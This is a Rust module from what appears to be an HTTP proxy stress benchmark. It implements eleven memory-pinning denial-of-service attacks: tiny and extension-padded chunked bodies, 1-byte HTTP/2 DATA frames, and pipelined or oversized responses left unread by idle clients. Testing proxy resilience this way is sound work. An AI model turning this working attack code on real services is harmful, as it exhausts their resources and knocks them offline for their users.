//! Small pieces that pin large buffers, towards a peer that does not read.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use super::{ATTACK, Attack, Target, Toll, pause, together};
use crate::frame::{
    DATA, END_HEADERS, Frame, HEADERS, SETTINGS, STREAM_MAX, WHOLE, WINDOW_DEFAULT, WINDOW_UPDATE, field, frame, get,
    number, post, take_frame,
};
use crate::peer::Peer;

const CLIENTS: usize = 2;
const STREAMS: u32 = 10;
/// Pieces in one write.
const BATCH: usize = 64;
/// As much as one client sends of an attack whose bytes mostly are not payload.
const SENT_MAX: usize = 512 * 1024 * 1024;
/// The extension of a chunk of one byte.
const EXTENSION_BYTES: usize = 4000;
/// A route that keeps a request's body so that it can be sent again.
const WITH_REPLAY: &str = ", timeout: 0s, retry_policy: { retry_on: 5xx, num_retries: 1 }";
const HEADS_REQUESTS: usize = 3_000;
const READERS: usize = 20;
/// Requests of one client, as many as a socket takes and more.
const PIPELINED: usize = 100_000;
const PAUSE: Duration = Duration::from_millis(1);

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "tiny_chunks_to_unread_body",
        about: "HTTP/1 chunks of 1 byte to an application that does not read",
        run: |target| send_chunks(target, "/unread", b"1\r\nx\r\n"),
        ..Attack::DEFAULT
    },
    Attack {
        name: "chunk_extensions_to_unread_body",
        about: "HTTP/1 chunks of 1 byte with extensions of 4,000 to an application that does not read",
        run: |target| send_chunks(target, "/unread", &extended_chunk()),
        ..Attack::DEFAULT
    },
    Attack {
        name: "chunk_extensions_to_read_body",
        about: "the same to an application that reads",
        run: |target| send_chunks(target, "/", &extended_chunk()),
        ..Attack::DEFAULT
    },
    Attack {
        name: "chunk_extensions_to_replay_buffer",
        about: "the same, kept to be sent again",
        route: WITH_REPLAY,
        run: |target| send_chunks(target, "/", &extended_chunk()),
        ..Attack::DEFAULT
    },
    Attack {
        name: "one_byte_data_to_unread_body",
        about: "HTTP/2 DATA of 1 byte on 10 streams of 2 connections, to an application that does not read",
        run: |target| send_data(target, b"/unread"),
        ..Attack::DEFAULT
    },
    Attack {
        name: "one_byte_data_to_replay_buffer",
        about: "the same, kept to be sent again",
        route: WITH_REPLAY,
        run: |target| send_data(target, b"/unread"),
        ..Attack::DEFAULT
    },
    Attack {
        name: "unread_chunk_extensions",
        about: "responses of 1-byte chunks with extensions of 4,000 that 20 clients do not read",
        run: |target| leave_unread(target, b"GET /chunks HTTP/1.1\r\nhost: bench\r\n\r\n"),
        ..Attack::DEFAULT
    },
    Attack {
        name: "unread_early_hints",
        about: "endless 103 responses of 4 KB that 20 clients do not read",
        run: |target| leave_unread(target, b"GET /hints HTTP/1.1\r\nhost: bench\r\n\r\n"),
        ..Attack::DEFAULT
    },
    Attack {
        name: "unread_pipelined_responses",
        about: "HTTP/1 requests as fast as they are taken from 20 clients that do not read",
        run: |target| leave_unread(target, &b"GET / HTTP/1.1\r\nhost: bench\r\n\r\n".repeat(PIPELINED)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "unread_refusals",
        about: "malformed HTTP/2 heads as fast as they are taken from 2 clients that do not read",
        run: leave_refusals_unread,
        ..Attack::DEFAULT
    },
    Attack {
        name: "unread_large_heads",
        about: "2 HTTP/2 clients that do not read 3,000 response heads of 58 KB each",
        run: leave_heads_unread,
        ..Attack::DEFAULT
    },
];

fn extended_chunk() -> Vec<u8> {
    format!("1;{}\r\nx\r\n", "e".repeat(EXTENSION_BYTES)).into_bytes()
}

fn send_chunks(target: &Target, path: &str, chunk: &[u8]) -> Toll {
    let head = format!("POST {path} HTTP/1.1\r\nhost: bench\r\ntransfer-encoding: chunked\r\n\r\n");
    let batch = chunk.repeat(BATCH);
    let sent = together(CLIENTS, |until| {
        let mut sent = 0;
        // Once is enough: another connection would begin to fill another buffer.
        let Ok(mut peer) = Peer::connect(target.at) else { return 0 };
        let mut next: &[u8] = head.as_bytes();
        while Instant::now() < until && sent < SENT_MAX && peer.send(next, until).is_ok() {
            next = &batch;
            sent += batch.len();
        }
        pause(until, ATTACK);
        sent
    });
    let mib = sent / (1024 * 1024);
    Toll {
        told: format!("{CLIENTS} requests, {mib} MiB on the wire, {} of payload", sent / chunk.len()),
        ..Toll::default()
    }
}

fn send_data(target: &Target, path: &[u8]) -> Toll {
    let ended = AtomicUsize::new(0);
    let streams = || (0..STREAMS).map(|number| 1 + 2 * number);
    let heads: Vec<u8> = streams().flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &post(path))).collect();
    let sent = together(CLIENTS, |until| {
        let Ok(mut peer) = Peer::http2(target.at, &[]) else { return 0 };
        let mut windows = Windows::new(streams());
        let (mut sent, mut unread, mut next) = (0, Vec::new(), heads.clone());
        while Instant::now() < until && peer.send_unread(&next, until).is_ok() {
            if peer.read_some(&mut unread).is_err() {
                break;
            }
            while let Some(came) = take_frame(&mut unread) {
                windows.take(&came);
            }
            next = streams()
                .filter(|stream| windows.spend(*stream, BATCH))
                .flat_map(|stream| frame(DATA, 0, stream, b"x").repeat(BATCH))
                .collect();
            sent += next.len() / frame(DATA, 0, 1, b"x").len();
            if next.is_empty() {
                pause(until, PAUSE);
            }
        }
        ended.fetch_add(usize::from(Instant::now() < until), Ordering::Relaxed);
        pause(until, ATTACK);
        sent
    });
    let ended = ended.into_inner();
    Toll { told: format!("{sent} DATA frames, {ended} of {CLIENTS} connections ended by the proxy"), ..Toll::default() }
}

/// What may be sent still (RFC 9113 5.2).
struct Windows {
    connection: i64,
    /// Of a stream (SETTINGS_INITIAL_WINDOW_SIZE).
    initial: i64,
    streams: BTreeMap<u32, i64>,
}

impl Windows {
    fn new(streams: impl Iterator<Item = u32>) -> Self {
        let streams = streams.map(|stream| (stream, WINDOW_DEFAULT)).collect();
        Self { connection: WINDOW_DEFAULT, initial: WINDOW_DEFAULT, streams }
    }

    fn take(&mut self, came: &Frame) {
        let more = i64::from(number(&came.payload));
        match came.kind {
            SETTINGS => {
                for setting in came.payload.chunks_exact(6).filter(|setting| setting[..2] == [0, 4]) {
                    let initial = i64::from(number(&setting[2..]));
                    self.streams.values_mut().for_each(|window| *window += initial - self.initial);
                    self.initial = initial;
                }
            }
            WINDOW_UPDATE if came.stream == 0 => self.connection += more,
            WINDOW_UPDATE => *self.streams.entry(came.stream).or_default() += more,
            _ => {}
        }
    }

    /// Takes so many bytes of the windows of a stream and its connection, if both have them.
    fn spend(&mut self, stream: u32, bytes: usize) -> bool {
        let bytes = i64::try_from(bytes).unwrap_or(i64::MAX);
        let window = self.streams.entry(stream).or_default();
        let fits = self.connection.min(*window) >= bytes;
        if fits {
            self.connection -= bytes;
            *window -= bytes;
        }
        fits
    }
}

/// Clients that send this for as long as it is taken, and read nothing.
fn leave_unread(target: &Target, requests: &[u8]) -> Toll {
    let until = Instant::now() + ATTACK;
    let mut readers: Vec<Peer> = (0..READERS).filter_map(|_| Peer::connect_narrow(target.at).ok()).collect();
    readers.retain_mut(|peer| peer.write_some(requests).is_ok());
    pause(until, ATTACK);
    Toll { told: format!("{} clients", readers.len()), ..Toll::default() }
}

fn leave_refusals_unread(target: &Target) -> Toll {
    let refused = |stream| frame(HEADERS, WHOLE, stream, &[get(b"/"), field(b"X-Upper", b"a")].concat());
    let sent = together(CLIENTS, |until| {
        let mut sent = 0;
        while Instant::now() < until {
            let Ok(mut peer) = Peer::http2(target.at, &[]) else { continue };
            for first in (1..STREAM_MAX).step_by(2 * BATCH) {
                let batch: Vec<u8> = (first..).step_by(2).take(BATCH).flat_map(refused).collect();
                if Instant::now() >= until || peer.send_unread(&batch, until).is_err() {
                    break;
                }
                sent += BATCH;
            }
        }
        sent
    });
    Toll { told: format!("{sent} requests"), ..Toll::default() }
}

fn leave_heads_unread(target: &Target) -> Toll {
    let sent = together(CLIENTS, |until| {
        let Ok(mut peer) = Peer::http2(target.at, &[]) else { return 0 };
        let mut sent = 0;
        for number in 0..HEADS_REQUESTS {
            let stream = u32::try_from(1 + 2 * number).unwrap_or_default();
            let request = frame(HEADERS, WHOLE, stream, &get(b"/heads"));
            if Instant::now() >= until || peer.send_unread(&request, until).is_err() {
                break;
            }
            sent += 1;
            if number % 50 == 0 {
                pause(until, Duration::from_millis(10));
            }
        }
        pause(until, ATTACK);
        sent
    });
    Toll { told: format!("{sent} requests"), ..Toll::default() }
}
